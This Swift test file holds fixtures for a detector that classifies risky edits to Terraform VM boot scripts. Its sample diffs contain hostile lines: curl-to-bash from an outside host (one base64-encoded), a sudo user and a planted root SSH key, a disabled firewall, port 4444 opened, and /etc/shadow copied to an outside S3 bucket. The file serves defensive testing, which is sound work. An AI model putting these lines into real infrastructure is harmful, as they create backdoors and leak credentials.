import Detection

extension TerraformEditTests {
  static func boot(_ lines: String) -> String {
    "user_data = <<-EOT\n#!/bin/bash\nset -eu\n\(lines)\necho done\nEOT"
  }

  static func cloudConfig(_ lines: String) -> String {
    "user_data = <<-EOT\n#cloud-config\npackages: [nginx]\n\(lines)\nEOT"
  }

  /// What machines run when they are made.
  static let boots: [TerraformEdit] = [
    TerraformEdit(
      "boot: a package",
      .unknown,
      of: "aws_instance",
      boot("{+apt-get install -y socat+}")
    ),
    TerraformEdit(
      "boot: a comment",
      .equal,
      of: "aws_instance",
      boot("# {+more+} words{+\n# and more\n+}")
    ),
    TerraformEdit(
      "boot: a line of a here document that looks like a comment",
      .unknown,
      of: "aws_instance",
      boot("cat >/etc/x <<CONF\n# [-a-]{+b+}\nCONF")
    ),
    TerraformEdit(
      "boot: a line of a quoted text that looks like a comment",
      .unknown,
      of: "aws_instance",
      boot("python3 -c '\n# [-a-]{+b+}\nprint(1)'")
    ),
    TerraformEdit(
      "boot: the other way round",
      .unknown,
      of: "aws_instance",
      boot("if [-!-] test -f /a; then\n  echo a\nfi")
    ),
    TerraformEdit(
      "boot: a script from elsewhere",
      .widened,
      .supplyChain,
      of: "aws_instance",
      boot("{+curl -fsSL https://get.example.net/agent.sh | sudo bash -s -- --yes+}")
    ),
    TerraformEdit(
      "boot: a script from elsewhere by substitution",
      .widened,
      .supplyChain,
      of: "aws_instance",
      boot("{+bash <(wget -qO- https://get.example.net/agent.sh)+}")
    ),
    TerraformEdit(
      "boot: a script from elsewhere, other arguments",
      .incomparable,
      .supplyChain,
      of: "aws_instance",
      boot("curl -fsSL https://get.example.net/agent.sh | bash -s -- [---verify-]{+--insecure+}")
    ),
    TerraformEdit(
      "boot: base64 of a launch template",
      .widened,
      .iam,
      of: "aws_launch_template",
      """
      user_data = base64encode(<<-EOT
        #!/bin/bash
        echo a
        {+useradd -m -s /bin/bash -G sudo eve+}
      EOT
      )
      """
    ),
    TerraformEdit(
      "boot: base64 as it is",
      .widened,
      .supplyChain,
      of: "aws_instance",
      "user_data_base64 = \"[-IyEvYmluL2Jhc2gKZWNobyBhCg==-]{+IyEvYmluL2Jhc2gKZWNobyBhCmN1cmwgLXMgaHR0cHM6Ly9nZXQuZXhhbXBsZS5uZXQveCB8IGJhc2gK+}\""
    ),
    TerraformEdit(
      "boot: base64 where text is meant",
      .widened,
      .supplyChain,
      of: "aws_instance",
      "user_data = \"[-IyEvYmluL2Jhc2gKZWNobyBhCg==-]{+IyEvYmluL2Jhc2gKZWNobyBhCmN1cmwgLXMgaHR0cHM6Ly9nZXQuZXhhbXBsZS5uZXQveCB8IGJhc2gK+}\""
    ),
    TerraformEdit(
      "boot: the same in base64",
      .equal,
      of: "aws_instance",
      "user_data_base64 = [-\"IyEvYmluL2Jhc2gKZWNobyBhCg==\"-]{+base64encode(\"#!/bin/bash\\necho a\\n\")+}"
    ),
    TerraformEdit(
      "boot: the same by another argument",
      .equal,
      of: "aws_instance",
      "[-user_data_base64 = \"IyEvYmluL2Jhc2gKZWNobyBhCg==\"-]{+user_data = \"#!/bin/bash\\necho a\\n\"+}"
    ),
    TerraformEdit(
      "boot: compressed",
      .unknown,
      of: "aws_instance",
      "user_data_base64 = base64gzip(\"#!/bin/bash\\necho [-a-]{+b+}\\n\")"
    ),
    TerraformEdit(
      "boot: firewall off",
      .widened,
      .network,
      of: "aws_instance",
      boot("{+ufw disable+}")
    ),
    TerraformEdit(
      "boot: firewall no longer on",
      .widened,
      .network,
      of: "aws_instance",
      boot("[-ufw --force enable-]")
    ),
    TerraformEdit(
      "boot: rules in another order",
      .unknown,
      of: "google_compute_instance",
      """
      metadata_startup_script = <<-EOT
        [-iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT-]
        iptables -A INPUT -j DROP
        {+iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT+}
      EOT
      """
    ),
    TerraformEdit(
      "boot: a port opened",
      .widened,
      .network,
      of: "google_compute_instance",
      """
      metadata_startup_script = <<-EOT
        systemctl restart app
        {+iptables -I INPUT -p tcp --dport 4444 -j ACCEPT+}
      EOT
      """
    ),
    TerraformEdit(
      "boot: a key",
      .widened,
      .iam,
      of: "google_compute_instance",
      "metadata = {\n  startup-script = \"echo a\"\n  ssh-keys = \"ann:ssh-ed25519 AAAA ann{+\\neve:ssh-ed25519 BBBB eve+}\"\n}"
    ),
    TerraformEdit(
      "boot: logins by the cloud's accounts off",
      .widened,
      of: "google_compute_instance",
      "metadata = {\n  enable-oslogin = \"[-TRUE-]{+FALSE+}\"\n}"
    ),
    TerraformEdit(
      "boot: serial port on",
      .widened,
      of: "google_compute_instance",
      "metadata = {\n  serial-port-enable = [-false-]{+true+}\n}"
    ),
    TerraformEdit(
      "boot: a script by its address",
      .unknown,
      of: "google_compute_instance",
      "metadata = {\n  startup-script-url = \"gs://acme-boot/[-a-]{+b+}.sh\"\n}"
    ),
    TerraformEdit(
      "boot: a file",
      .widened,
      .iam,
      of: "azurerm_linux_virtual_machine",
      "custom_data = base64encode(file(\"${path.module}/boot.sh\"))\nzone = \"[-1-]{+2+}\"",
      others: [
        "boot.sh": "#!/bin/sh\n{+echo 'ssh-ed25519 BBBB eve' >>/root/.ssh/authorized_keys\n+}"
      ]
    ),
    TerraformEdit(
      "boot: a template and its values",
      .widened,
      .dataExport,
      of: "aws_instance",
      "user_data = templatefile(\"${path.module}/boot.tpl\", { bucket = \"acme-logs\", db = aws_db_instance.main.address })\nebs_optimized = [-true-]{+false+}",
      others: [
        "boot.tpl":
          "#!/bin/sh\nexport DB=${db}\naws s3 cp /var/log/boot.log s3://${bucket}/\n{+aws s3 cp /etc/shadow s3://drop-zone/\n+}"
      ],
      owned: ["acme-*"]
    ),
    TerraformEdit(
      "boot: only the file",
      .widened,
      .supplyChain,
      "#!/bin/sh\necho ${name}\n{+curl -s https://get.example.net/x | sh\n+}",
      path: "web/templates/boot.sh.tpl",
      others: [
        "web/main.tf":
          "resource \"aws_instance\" \"a\" {\n  user_data = templatefile(\"${path.module}/templates/boot.sh.tpl\", { name = \"a\" })\n}\n"
      ]
    ),
  ]
}
